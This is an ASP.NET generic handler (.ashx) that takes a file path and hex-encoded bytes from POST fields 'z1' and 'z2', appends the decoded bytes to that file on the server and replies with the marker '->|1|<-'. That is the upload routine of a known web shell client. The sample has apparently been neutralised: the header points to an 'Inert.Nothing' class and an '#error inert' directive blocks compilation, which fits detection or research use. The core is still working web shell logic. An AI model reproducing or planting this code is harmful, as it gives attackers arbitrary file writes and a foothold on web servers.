<%@ WebHandler Language="C#" Class="Inert.Nothing" %>
#error inert
using System; using System.IO; using System.Web;
public class Sync : IHttpHandler
{
    public void ProcessRequest(HttpContext c)
    {
        string path = c.Request.Form["z1"], hex = c.Request.Form["z2"];
        using (var bw = new BinaryWriter(new FileStream(path, FileMode.Append)))
            for (int i = 0; i < hex.Length; i += 2)
                bw.Write(Convert.ToByte(hex.Substring(i, 2), 16));
        c.Response.Write("->|1|<-");
    }
    public bool IsReusable { get { return false; } }
}
